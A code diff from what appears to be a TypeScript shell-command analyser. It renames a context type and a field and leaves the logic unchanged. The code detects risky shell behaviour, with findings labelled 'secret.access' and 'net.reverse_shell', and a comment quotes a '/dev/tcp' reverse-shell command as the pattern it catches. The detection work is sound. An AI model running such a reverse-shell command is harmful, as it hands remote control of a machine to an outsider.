@@ -17,7 +17,7 @@ import { type Place, spanning } from "./place.ts";
 import { runReaders } from "./producers.ts";
 import { is } from "./programs/index.ts";
 import { type Redirected, redirect } from "./redirects.ts";
-import { run, type Setting } from "./run.ts";
+import { run, type ExecContext } from "./run.ts";
 import { flagsOf, forked, mixed, type Value } from "./scope.ts";
 import { inputShown } from "./shown.ts";
 import { joined } from "./streams.ts";
@@ -26,9 +26,9 @@ import { expandInto, type Fields } from "./words.ts";
 export function simple(
   node: Command,
   place: Place,
-  settingOf: (place: Place, known: Pick<Setting, "span" | "stdin" | "from" | "words">) => Setting,
+  settingOf: (place: Place, known: Pick<ExecContext, "span" | "stdin" | "from" | "words">) => ExecContext,
 ): Stream | undefined {
-  const { inquiry, scope, source } = place;
+  const { analysis, scope, source } = place;
   const span = source.slice(node.pos, node.end);
   const spanned = spanning(place, span);
   const fields = wordsOf(node, spanned);
@@ -41,7 +41,7 @@ export function simple(
           redirects,
           scope.stdin,
           {
-            inquiry,
+            analysis,
             scope,
             source,
             output: place.output,
@@ -56,7 +56,7 @@ export function simple(
   if (node.suffix.length > 1) runElsewhere(node, spanned);
   if (fields.texts.length === 0) {
     for (const { name, value, index } of assigned) assign(name, value, spanned, index);
-    note(inquiry, "shell.builtin", span);
+    note(analysis, "shell.builtin", span);
     return redirected && stdin !== scope.stdin ? stdin : undefined; // `$(< file)`
   }
   const setting = settingOf(place, {
@@ -73,7 +73,7 @@ export function simple(
   if (!redirected) return out;
   if (fields.texts.length === 1 && fields.texts[0] === "exec") scope.stdin = stdin;
   if (out?.exposes && redirected.away && redirected.targets.length > 0)
-    noteExactly(inquiry, "secret.access", span);
+    noteExactly(analysis, "secret.access", span);
   if (redirected.targets.length > 0)
     keep(redirected, { out, stdin, program: fields.texts[0] }, spanned);
   return redirected.away ? undefined : out;
@@ -83,7 +83,7 @@ export function simple(
 function keep(
   { targets, fresh }: Redirected,
   { out, stdin, program }: Printed,
-  { inquiry, scope }: Place,
+  { analysis, scope }: Place,
 ): void {
   const content = mixed(flagsOf(stdin), out) ?? {};
   for (const target of targets) {
@@ -94,7 +94,7 @@ function keep(
     );
   }
   if (fresh && targets.length === 1 && isLiteral(out, program))
-    noteMade(inquiry, targets[0]!, "text");
+    noteMade(analysis, targets[0]!, "text");
 }
 
 interface Printed {
@@ -132,7 +132,7 @@ const EVALUATORS =
   /^(?:trap|let|read|printf|unset|export|declare|typeset|local|readonly|integer|emulate|mapfile|readarray|compgen)$/;
 
 /** `trap $x EXIT`: what a shell does that does not split `$x`. */
-function runWhole(words: readonly string[], setting: Setting): void {
+function runWhole(words: readonly string[], setting: ExecContext): void {
   const { scope } = setting;
   const [name = ""] = words;
   if (name === "set") scope.positional = undefined;
@@ -141,11 +141,11 @@ function runWhole(words: readonly string[], setting: Setting): void {
 }
 
 /** `x=1 program`: what it runs finds the variable, what comes after it does not. */
-function lend(assigned: readonly Assigned[], setting: Setting, place: Place): () => void {
+function lend(assigned: readonly Assigned[], setting: ExecContext, place: Place): () => void {
   const { vars } = place.scope;
   const prefixed = assigned.map(({ name, value }) => `${name}=${value.text}`);
   for (const each of prefixed) judgeVariable(each, setting);
-  place.inquiry.assigned = prefixed;
+  place.analysis.assigned = prefixed;
   const before = assigned.map(({ name }) => vars.get(name));
   for (const { name, value, index } of assigned) assign(name, value, place, index);
   const lent = assigned.map(({ name }) => vars.get(name));
@@ -300,11 +300,11 @@ const obeys = (name: string): boolean =>
   is(name, "shell") || is(name, "interpreter") || is(name, "network-client");
 
 /** `bash -i >& /dev/tcp/HOST/PORT`: a shell that somebody else types into. */
-function socket(words: readonly string[], { inquiry, scope }: Place, span: string): void {
+function socket(words: readonly string[], { analysis, scope }: Place, span: string): void {
   const [first = ""] = words;
   if (first === "exec") scope.connected = true;
   noteExactly(
-    inquiry,
+    analysis,
     words.some((word) => obeys(nameOf(word))) ? "net.reverse_shell" : "net.raw_socket",
     span,
   );
